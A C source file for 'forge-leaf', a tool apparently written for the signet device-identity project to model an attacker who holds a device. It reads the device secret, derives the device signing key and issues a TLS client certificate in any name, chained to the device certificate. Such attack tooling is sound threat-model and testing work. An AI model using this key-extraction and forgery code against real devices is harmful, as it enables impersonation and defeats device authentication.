/* SPDX-License-Identifier: MIT */
/* An attacker who holds a device: its secret is read, its device key derived,
 * and a TLS client certificate made with it, in any name.
 *
 *   forge-leaf DEVICE-DIRECTORY COMMON-NAME OUT
 *
 * writes OUT.key and OUT.pem: the leaf, then the device's own certificate. */
#define _POSIX_C_SOURCE 200809L

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "derive.h"
#include "host_key.h"
#include "signet/identity.h"
#include "signet/port/posix/device.h"
#include "signet/port/posix/layout.h"

#define LEAF_LIFE_S 3600u

struct forgery {
    signing_host_key device;
    signing_host_key leaf;
    uint8_t device_cert[SIGNET_X509_MAX_SIZE];
    size_t device_cert_len;
    char issuer[16 + SIGNET_DEVICE_ID_LEN];
};

static signet_status read_secret(int dir, uint8_t secret[32])
{
    signet_posix_secret ctx;
    signet_secret port;
    signet_status status = signet_posix_secret_open(&ctx, dir, &port);
    if (status == SIGNET_OK) {
        status = port.ops->read(port.ctx, secret);
        signet_posix_secret_close(&ctx);
    }
    return status;
}

static signet_status read_certificate(int dir, struct forgery *f)
{
    signet_posix_storage storage;
    signet_items items;
    signet_status status = signet_posix_storage_open(
        &storage, dir, SIGNET_POSIX_FLASH_NAME, false);
    if (status != SIGNET_OK) {
        return status;
    }
    status = signet_items_mount(&items, &storage.factory_items);
    if (status == SIGNET_OK) {
        status = signet_items_get(&items, SIGNET_IDENTITY_ITEM_DEVICE_CERT,
                                  f->device_cert, sizeof f->device_cert,
                                  &f->device_cert_len);
    }
    signet_posix_storage_close(&storage);
    return status;
}

static signet_status steal(int dir, struct forgery *f)
{
    uint8_t secret[32];
    uint8_t scalar[32];
    uint8_t public_key[64];
    uint8_t ueid[SIGNET_UEID_SIZE];
    char id[SIGNET_DEVICE_ID_LEN + 1u];
    signet_status status = read_secret(dir, secret);
    if (status == SIGNET_OK) {
        status = signet_derive_device(secret, scalar, public_key);
    }
    if (status == SIGNET_OK) {
        status = signing_host_key_set(&f->device, scalar);
    }
    if (status == SIGNET_OK) {
        status = signet_identity_names(public_key, id, ueid);
        (void)snprintf(f->issuer, sizeof f->issuer, "device-%s", id);
    }
    return status == SIGNET_OK ? read_certificate(dir, f) : status;
}

static signet_status forge(struct forgery *f, const char *name, uint64_t now_s,
                           uint8_t *out, size_t cap, size_t *len)
{
    signet_x509_template t;
    uint8_t issuer_key[64];
    uint8_t leaf_key[64];
    signet_key device = signing_host_key_handle(&f->device);
    signet_key leaf;
    signet_status status = signing_host_key_generate(&f->leaf);
    if (status != SIGNET_OK) {
        return status;
    }
    leaf = signing_host_key_handle(&f->leaf);
    memset(&t, 0, sizeof t);
    status = signing_public_key(&leaf, leaf_key);
    if (status == SIGNET_OK) {
        status = signing_public_key(&device, issuer_key);
    }
    if (status != SIGNET_OK) {
        return status;
    }
    t.issuer_cn = f->issuer;
    t.subject_cn = name;
    t.subject_key = leaf_key;
    t.issuer_key = issuer_key;
    t.serial[15] = 1;
    t.not_before_s = now_s - LEAF_LIFE_S;
    t.not_after_s = now_s + LEAF_LIFE_S;
    t.path_len = -1;
    t.key_usage = SIGNET_KEY_USAGE_SIGN;
    t.extended_usage = SIGNET_EKU_CLIENT;
    return signet_x509_write(&t, &device, out, cap, len);
}

static bool append_pem(FILE *file, const char *label, signet_bytes der)
{
    signing_buffer pem = {NULL, 0};
    bool ok = signing_pem_write(label, der, &pem) == SIGNET_OK &&
              fwrite(pem.ptr, 1, pem.len, file) == pem.len;
    signing_buffer_free(&pem);
    return ok;
}

static FILE *open_out(const char *stem, const char *suffix)
{
    char path[4096];
    int len = snprintf(path, sizeof path, "%s%s", stem, suffix);
    return len > 0 && (size_t)len < sizeof path ? fopen(path, "wb") : NULL;
}

static bool write_chain(const char *stem, const struct forgery *f,
                        signet_bytes leaf)
{
    FILE *file = open_out(stem, ".pem");
    bool ok = file != NULL && append_pem(file, "CERTIFICATE", leaf) &&
              append_pem(file, "CERTIFICATE",
                         signet_view(f->device_cert, f->device_cert_len));
    return file != NULL && fclose(file) == 0 && ok;
}

static bool write_key(const char *stem, const struct forgery *f)
{
    signing_buffer pem = {NULL, 0};
    FILE *file = open_out(stem, ".key");
    bool ok = file != NULL &&
              signing_private_key_write(&f->leaf, &pem) == SIGNET_OK &&
              fwrite(pem.ptr, 1, pem.len, file) == pem.len;
    signing_buffer_free(&pem);
    return file != NULL && fclose(file) == 0 && ok;
}

static int fail(const char *what, signet_status status)
{
    fprintf(stderr, "forge-leaf: %s: %s\n", what, signet_status_text(status));
    return EXIT_FAILURE;
}

int main(int argc, char **argv)
{
    static struct forgery f;
    uint8_t leaf[SIGNET_X509_MAX_SIZE];
    size_t len = 0;
    signet_status status;
    int dir;
    if (argc != 4) {
        fprintf(stderr, "usage: forge-leaf DEVICE-DIRECTORY COMMON-NAME OUT\n");
        return 2;
    }
    dir = open(argv[1], O_RDONLY | O_DIRECTORY);
    status = dir < 0 ? SIGNET_ERR_IO : steal(dir, &f);
    if (status != SIGNET_OK) {
        return fail(argv[1], status);
    }
    (void)close(dir);
    status = forge(&f, argv[2], (uint64_t)time(NULL), leaf, sizeof leaf, &len);
    if (status != SIGNET_OK) {
        return fail(argv[2], status);
    }
    return write_chain(argv[3], &f, signet_view(leaf, len)) &&
                   write_key(argv[3], &f)
               ? EXIT_SUCCESS
               : fail(argv[3], SIGNET_ERR_IO);
}
